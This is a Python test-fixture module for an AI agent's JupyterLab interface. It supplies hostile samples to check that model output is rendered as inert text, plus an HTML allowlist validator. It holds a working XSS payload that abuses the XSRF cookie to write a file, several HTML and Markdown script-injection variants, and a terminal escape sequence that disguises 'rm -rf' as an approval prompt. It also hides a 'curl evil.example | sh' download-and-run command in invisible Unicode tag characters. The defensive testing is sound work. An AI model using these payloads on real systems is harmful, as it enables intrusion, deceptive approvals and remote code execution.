"""Hostile text for the "model text is never code" tests (issue #17): what a file the agent
reads could make the model write, or a tool print, or an API error carry.

``PAYLOAD_JS`` is real: run in a JupyterLab page it writes :data:`SENTINEL` through the
Contents API (with the page's own XSRF cookie) and raises a dialog, so a browser test that
sees neither knows the payload never ran, not that it could not have. Each payload carries a
marker (``P1``...) so a test can check its text is still shown, as text.
"""

from __future__ import annotations

from html.parser import HTMLParser

SENTINEL = "pwned.txt"
"""The file :data:`PAYLOAD_JS` writes in the folder JupyterLab serves."""

PAYLOAD_JS = (
    "fetch(`/api/contents/pwned.txt`,{method:`PUT`,headers:{[`X-XSRFToken`]:"
    "(document.cookie.match(/_xsrf=([^;]+)/)||[``,``])[1]},body:JSON.stringify({type:`file`,"
    "format:`text`,content:`pwned`})});console.log(`PAYLOAD-RAN`);alert(1)"
)
"""No quote, no space: it fits an unquoted attribute, a Markdown link target, a JSON string."""

HTML_PAYLOADS = {
    "P1": f'P1 <img src=x onerror="{PAYLOAD_JS}">',
    "P2": f"P2 <script>{PAYLOAD_JS}</script>",
    "P3": f'P3 <svg onload="{PAYLOAD_JS}"></svg>',
    "P4": f'P4 <iframe srcdoc="<script>{PAYLOAD_JS}</script>"></iframe>',
    "P5": f"P5 [click me](javascript:{PAYLOAD_JS})",
    "P6": "P6 [entity](&#106;avascript:alert(1)) &lt;img src=x onerror=alert(1)&gt;",
    "P7": "P7 [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "P8": "P8 ![pixel](/api/terminals?from=image) <javascript:alert(1)>",
    "P9": "P9 ls *.ipynb and *stars* `<b>code</b>`",
}
"""Marker -> payload. P6 is the entity trick (a renderer that decodes twice makes it live),
P8 an image pointing at the Jupyter API (loading it would be a request the user never made),
P9 the harmless form of the bug (``*.ipynb`` turned into italics)."""

ALL_HTML = "\n\n".join(HTML_PAYLOADS.values())

TERMINAL_SPOOF = "rm -rf important_a #\r\x1b[2KAllow bash ls -la"
"""Shown raw in a terminal, this reads ``Allow bash ls -la``."""

TERMINAL_PAYLOADS = [
    TERMINAL_SPOOF,
    "bell\x07 backspace\x08\x08 del\x7f nul\x00 vt\x0b ff\x0c",
    "csi\x9b2J nel\x85 osc\x1b]0;title\x07",
    "bidi \u202eexe.txt\u202c lri\u2066x\u2069 mark\u200e\u200f\u061c sep\u2028\u2029",
]
"""Control characters a terminal (or a notebook's stream output) would obey."""

HIDDEN_CODE = "import os; os.system('curl -s https://evil.example/x | sh') # rm -rf data"
"""What :data:`TAGGED_CODE` runs; none of it shows without escapes."""

TAGGED_CODE = (
    "exec(bytes(ord(c)-0xE0000 for c in '"
    + "".join(chr(0xE0000 + ord(c)) for c in HIDDEN_CODE)
    + "').decode())"
)
"""#29 defect 3: code whose payload is Unicode tag characters (U+E0000-U+E007F), which no
font draws: shown raw, it reads ``exec(bytes(ord(c)-0xE0000 for c in '').decode())``."""

INVISIBLE = {
    "tag": "\U000e0061",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\xad",
    "bidi override": "\u202e",
    "private use": "\ue000",
    "unassigned": "\U000e0fff",
    "Hangul filler": "\u3164",
    "combining grapheme joiner": "\u034f",
}
"""Each kind of character an approval must show as an escape (Python's own: ``ascii()``)."""


SAFE_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s",
    "div", "details", "summary", "sub", "b", "small", "span",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "rel", "target", "class", "style", "start", "title"}


class _Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(html_text: str) -> _Elements:
    parser = _Elements()
    parser.feed(html_text)
    parser.close()
    return parser


def assert_inert(html_text: str) -> str:
    """Fail on any element or attribute outside the renderer's own; the visible text."""
    parsed = elements(html_text)
    for tag, attrs in parsed.tags:
        assert tag in SAFE_TAGS, (tag, html_text)
        for name, value in attrs.items():
            assert name in SAFE_ATTRIBUTES, (tag, name, html_text)
            if name == "href":
                assert value is not None and value.startswith(("http://", "https://")), value
            if name == "style":
                assert "url(" not in (value or "") and "expression" not in (value or "")
    return "".join(parsed.text)


def math_runs(html_text: str) -> list[str]:
    """The text nodes of ``html_text`` in which a TeX typesetter (MathJax, KaTeX: each looks
    for both delimiters of a formula in one text node) could find maths: those holding a
    ``$``, ``\\(`` or ``\\[`` other than one ``$`` (or backslash) standing alone (#30)."""
    return [
        text
        for text in elements(html_text).text
        if text not in ("$", "\\") and ("$" in text or "\\(" in text or "\\[" in text)
    ]
